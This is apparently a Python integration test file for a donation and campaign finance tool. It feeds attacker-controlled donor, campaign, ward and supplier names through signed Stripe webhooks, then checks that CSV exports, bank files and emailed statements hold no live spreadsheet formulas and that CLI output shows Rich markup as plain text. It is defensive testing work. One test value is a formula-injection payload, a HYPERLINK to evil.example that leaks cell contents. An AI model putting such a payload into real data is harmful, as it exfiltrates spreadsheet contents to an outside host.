"""Injection through the local stack (issue 13, items 4 to 6): names and amounts an attacker
controls go in as signed Stripe webhooks; every file and listing that comes out is checked.

A donor can type anything as their name in Stripe Checkout, and an operator's typo can put
anything in a campaign, ward or supplier. Nothing of it may come out of a CSV file as a
live spreadsheet formula (export, permissibility, reports, Xero and QuickBooks files, the
payout statement emailed to treasurers, the bank file in S3), or out of the CLI as Rich
markup (listings and errors). An amount Stripe could not have sent is refused at the door.
"""

from __future__ import annotations

import csv
import io
import json
import re
from datetime import date, datetime, timedelta
from email.message import EmailMessage
from pathlib import Path
from typing import Any

import boto3
import pytest

from tests.integration.operations import deliver, ok, said, table, wardfund
from wardfund.adapters.dynamodb.audit_log import DynamoAuditLog
from wardfund.adapters.dynamodb.bank_details_store import DynamoBankDetailsStore
from wardfund.adapters.dynamodb.campaign_store import DynamoCampaignStore
from wardfund.adapters.kms_bank_details import KmsBankDetails
from wardfund.domain.calendar import LONDON
from wardfund.domain.campaign import Campaign
from wardfund.local.stack import LocalStack
from wardfund.local.stripe.world import Donor, StripeWorld
from wardfund.services.bank_details import approve_change, request_change
from wardfund.services.campaigns import register_campaign

FORMULA = '=HYPERLINK("http://evil.example/?leak="&B2,"x")'
MARKUP_DONOR = "Markup [/x] Donor"
BOLD_DONOR = "[bold]x[/bold]"
MARKUP_CAMPAIGN = "Leeds [/x] Central"
FORMULA_WARD = "@SUM(A1:A9)"
MARKUP_SUPPLIER = "Hall [/x] Hire"
GIFT_AT = datetime(2026, 6, 3, 19, 0, tzinfo=LONDON)
RUN = datetime(2026, 6, 8, 6, 0, tzinfo=LONDON)
PERIOD = ("--from", "2026-06-01", "--to", "2026-06-30")
PLAIN_NUMBER = re.compile(r"^-?\d+(\.\d+)?$")


def live_formulas(text: str) -> list[str]:
    """Cells a spreadsheet would read as a formula: a plain number is not one."""
    return [
        cell
        for row in csv.reader(io.StringIO(text, newline=""))
        for cell in row
        if cell[:1] in ("=", "+", "-", "@", "\t", "\r") and not PLAIN_NUMBER.match(cell)
    ]


def cells(text: str) -> list[str]:
    return [cell for row in csv.reader(io.StringIO(text, newline="")) for cell in row]


def csv_attachment(message: EmailMessage) -> str:
    """Every CSV the email carries (a statement's journals and bank statement), one after
    the other."""
    texts = []
    for part in message.iter_attachments():
        if part.get_content_type() == "text/csv":
            data = part.get_payload(decode=True)
            assert isinstance(data, bytes)
            texts.append(data.decode("utf-8"))
    assert texts
    return "".join(texts)


def _campaign(stack: LocalStack, campaign_id: str, name: str) -> Campaign:
    campaign = Campaign(
        campaign_id,
        name,
        treasurer_emails=(f"treasurer@{campaign_id}.example",),
        launch_event_on=date(2026, 6, 1),
        bank_reference=FORMULA,  # paid by bank
    )
    registered = register_campaign(DynamoCampaignStore(table(stack)), campaign, by="test")
    # its bank account named by the attacker too: the bank file's payee
    store, audit = DynamoBankDetailsStore(table(stack)), DynamoAuditLog(table(stack))
    request_change(
        store, DynamoCampaignStore(table(stack)), KmsBankDetails(), audit, None,
        campaign_id=campaign_id, account_name=FORMULA, sort_code="089999",
        account_number="66374958", by="treasurer", at=GIFT_AT,
    )  # fmt: skip
    approve_change(store, audit, campaign_id=campaign_id, by="finance", at=GIFT_AT)
    return registered


@pytest.fixture
def attacked(stack: LocalStack) -> dict[str, Any]:
    """Two campaigns named by an attacker, donors named by attackers, signed webhooks in,
    a refund (a negative amount) and a payout run by bank with its emails."""
    formula = _campaign(stack, "formula", FORMULA)
    markup = _campaign(stack, "leeds-central", MARKUP_CAMPAIGN)
    world = StripeWorld()
    donors = {
        "d1": Donor("d1", "d1@donors.example", FORMULA),
        "d2": Donor("d2", "d2@donors.example", MARKUP_DONOR),
        "d3": Donor("d3", "d3@donors.example", BOLD_DONOR),
    }
    for n, (campaign, ward) in enumerate(
        ((formula, FORMULA_WARD), (markup, "[red]Hyde[/red]"), (markup, FORMULA))
    ):
        donor = donors[f"d{n + 1}"]
        at = GIFT_AT + timedelta(minutes=n)
        deliver(stack, world.give_once(at, donor, campaign.campaign_id, ward, 6000))
    deliver(stack, world.refund(GIFT_AT + timedelta(hours=1), "d1", 1, 1000))
    result = stack.fire_payout_schedule(RUN)
    stack.drain_notifications()
    assert stack.dead_letters() == 0
    return {"formula": formula.campaign_id, "markup": markup.campaign_id, "run": result}


def test_no_file_that_comes_out_holds_a_live_formula(
    stack: LocalStack, attacked: dict[str, Any]
) -> None:
    cid, other = attacked["formula"], attacked["markup"]
    files = {
        "export": ok("export", cid).stdout,
        "export (markup campaign)": ok("export", other).stdout,
        "permissibility csv": ok("permissibility", "--all", *PERIOD, "--format", "csv").stdout,
        "report csv": ok("report", cid, *PERIOD, "--format", "csv").stdout,
        "report --all csv": ok("report", "--all", *PERIOD, "--format", "csv").stdout,
        "report --all xero": ok("report", "--all", *PERIOD, "--format", "xero").stdout,
        "report xero": ok("report", cid, *PERIOD, "--format", "xero").stdout,
        "report --all quickbooks": ok("report", "--all", *PERIOD, "--format", "quickbooks").stdout,
    }
    assert attacked["run"]["bank_file"]
    bucket, _, key = attacked["run"]["bank_file"].removeprefix("s3://").partition("/")
    files["bank file"] = (
        boto3.client("s3").get_object(Bucket=bucket, Key=key)["Body"].read().decode()
    )
    emails = stack.sent_emails()
    statements = [e for e in emails if e.kind == "payout_statement"]
    assert len(statements) == 2
    for sent in statements:
        files[f"statement to {sent.to[0]}"] = csv_attachment(sent.mime)
    (summary,) = [e for e in emails if e.kind == "national_summary"]
    assert not [part for part in summary.mime.walk() if part.get_filename()]  # linked only

    for name, text in files.items():
        assert live_formulas(text) == [], (name, text)
    # The attacker's text is kept, as text: a single quote before it
    kept = "'" + FORMULA
    assert kept in cells(files["export"])  # the donor's name
    assert kept in cells(files["permissibility csv"])
    assert "'" + FORMULA_WARD in cells(files["report csv"])  # the ward
    assert kept in cells(files["report --all csv"])  # the campaign's name
    assert any(c.startswith(kept) for c in cells(files["report --all xero"]))  # description
    # the bank file carries Bacs text only: the payee's name, with nothing a formula needs
    assert ",HYPERLINK HTTP //E," in files["bank file"]
    assert any(kept in cells(text) for name, text in files.items() if name.startswith("statement"))
    # And amounts stay numbers: the refund is negative in Xero, the payout is a number
    xero = list(csv.DictReader(io.StringIO(files["report xero"])))
    assert "-8.00" in [row["*Amount"] for row in xero]  # £10 refunded of a 80 % share
    bank = list(csv.reader(io.StringIO(files["bank file"])))
    assert {row[16] for row in bank} == {"40.00", "96.00"}


def test_listings_print_names_as_they_are(
    stack: LocalStack, attacked: dict[str, Any], tmp_path: Path
) -> None:
    cid, other = attacked["formula"], attacked["markup"]
    listings = {
        "campaign list": ok("campaign", "list"),
        "campaign show": ok("campaign", "show", other),
        "report --all": ok("report", "--all", *PERIOD),
        "report (ward)": ok("report", other, *PERIOD),
        "report (formula ward)": ok("report", cid, *PERIOD),
        "permissibility": ok("permissibility", other, *PERIOD),
        "permissibility --all": ok("permissibility", "--all", *PERIOD),
    }
    shown = {name: said(result) for name, result in listings.items()}
    assert MARKUP_CAMPAIGN in shown["campaign list"]
    assert MARKUP_CAMPAIGN in shown["campaign show"]
    assert MARKUP_CAMPAIGN in shown["report --all"]
    assert FORMULA in shown["report --all"]
    assert "[red]Hyde[/red]" in shown["report (ward)"]
    assert FORMULA_WARD in shown["report (formula ward)"]
    for name in ("permissibility", "permissibility --all"):
        assert MARKUP_DONOR in shown[name], shown[name]
        assert BOLD_DONOR in shown[name], shown[name]
    assert FORMULA in shown["permissibility --all"]
    # An invoice from a supplier with brackets in its name, listed and shown
    document = tmp_path / "invoice.pdf"
    document.write_bytes(b"%PDF-1.4\n")
    submitted = ok(
        "invoice", "submit", other, "--supplier", MARKUP_SUPPLIER, "--amount", "50",
        "--file", str(document),
    )  # fmt: skip
    assert MARKUP_SUPPLIER in said(submitted)
    assert MARKUP_SUPPLIER in said(ok("invoice", "list", other))
    listed = json.loads(ok("invoice", "list", other, "--json").stdout)
    assert [i["supplier"] for i in listed["invoices"]] == [MARKUP_SUPPLIER]


def test_errors_naming_it_print_it_as_it_is(stack: LocalStack, attacked: dict[str, Any]) -> None:
    for args in (
        ("report", "no-[/x]-such"),
        ("campaign", "show", "[bold]no[/bold]"),
        ("permissibility", "[/x]"),
    ):
        result = wardfund(*args)
        assert result.exit_code == 2, (args, result.output)
        assert args[-1] in said(result), said(result)


def test_an_amount_stripe_could_not_send_is_refused_at_the_door(
    stack: LocalStack, attacked: dict[str, Any]
) -> None:
    world = StripeWorld(account_id="acct_bounds")
    donor = Donor("big", "big@donors.example", "Big Giver")
    events = world.give_once(GIFT_AT, donor, attacked["markup"], "Hyde", 1000)
    (paid,) = [e for e in events if e["type"] == "checkout.session.completed"]
    before = ok("report", "--all", *PERIOD, "--format", "csv").stdout
    for amount in (1e40, 10**40, 100_000_000):
        paid["data"]["object"]["amount_total"] = amount
        paid["id"] = f"evt_bounds_{str(amount).replace('+', '')}"
        # When Stripe's signature is good but the amount is beyond Stripe's maximum
        assert stack.deliver([paid]) == [400]
    stack.drain()
    # Then nothing was queued, counted or dead-lettered
    assert stack.dead_letters() == 0
    assert ok("report", "--all", *PERIOD, "--format", "csv").stdout == before
    # And a CLI amount beyond it is an error that names the limit, not a traceback
    result = wardfund("campaign", "update", attacked["markup"], "--match-cap", "1" * 41)
    assert result.exit_code == 2, result.output
    assert "£999,999.99" in said(result)
    assert result.exception is None or isinstance(result.exception, SystemExit)
